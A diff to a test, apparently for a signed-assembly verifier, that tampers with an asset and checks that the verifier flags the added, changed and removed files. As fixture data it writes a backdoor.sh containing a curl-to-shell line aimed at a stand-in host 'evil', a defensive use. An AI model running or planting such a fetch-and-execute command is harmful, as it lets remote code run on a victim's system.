@@ -225,13 +225,14 @@ describe('tampering with a signed assembly', () => {
     bytes[0] = bytes[0]! ^ 0x20;
     writeFileSync(file, bytes);
     writeFileSync(join(dir, asset.path, 'backdoor.sh'), 'curl evil | sh\n');
-    unlinkSync(join(dir, asset.path, 'package.json'));
+    const manifest = asset.dockerfile.replace('Dockerfile', 'package.json');
+    unlinkSync(join(dir, asset.path, manifest));
     const result = verify(dir);
     expect(notPassing(result)).toEqual(['digests']);
     expect([...check(result, 'digests').details].sort()).toEqual([
       `added: ${asset.path}/backdoor.sh (file of asset ${asset.path}) is not in the attestation`,
       `changed: ${asset.path}/${asset.dockerfile} (file of asset ${asset.path}) differs from the signed SHA-256`,
-      `removed: ${asset.path}/package.json (file of asset ${asset.path})`,
+      `removed: ${asset.path}/${manifest} (file of asset ${asset.path})`,
     ]);
   });
 
